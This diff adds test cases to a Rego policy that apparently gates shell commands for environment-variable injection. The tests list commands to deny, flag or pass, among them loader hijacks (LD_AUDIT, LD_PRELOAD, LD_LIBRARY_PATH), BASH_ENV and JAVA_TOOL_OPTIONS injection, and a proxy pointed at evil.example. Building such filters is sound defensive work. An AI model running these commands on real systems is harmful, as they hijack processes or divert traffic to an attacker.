@@ -22,8 +22,11 @@ test_denies if {
 		"GIT_EDITOR=/tmp/x git commit",
 		"JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar java -jar a.jar",
 		"typeset -x LD_PRELOAD=/tmp/x.so",
+		"LD_AUDIT=/tmp/x.so ls",
+		`BASH_ENV="$RC" bash -c true`,
 	] {
 		count(inject.deny) > 0 with input as gate.event(call)
+		count(inject.ask) == 0 with input as gate.event(call)
 	}
 }
 
@@ -36,6 +39,8 @@ test_asks if {
 		"HTTPS_PROXY=http://evil.example:8080 npm install",
 		"NODE_TLS_REJECT_UNAUTHORIZED=0 node a.js",
 		"PYTHONPATH=/tmp/x python3 a.py",
+		"LD_LIBRARY_PATH=./../x ls",
+		`HTTPS_PROXY="$PROXY" curl https://example.com`,
 	] {
 		count(inject.ask) > 0 with input as gate.event(call)
 		count(inject.deny) == 0 with input as gate.event(call)
@@ -65,6 +70,7 @@ test_passes if {
 		"HTTP_PROXY=http://localhost:3128 curl https://example.com",
 		"LC_ALL=C sort x",
 		"echo LD_PRELOAD=/tmp/x.so",
+		"poetry config pypi-token.pypi x",
 	] {
 		count(inject.deny) == 0 with input as gate.event(call)
 		count(inject.ask) == 0 with input as gate.event(call)
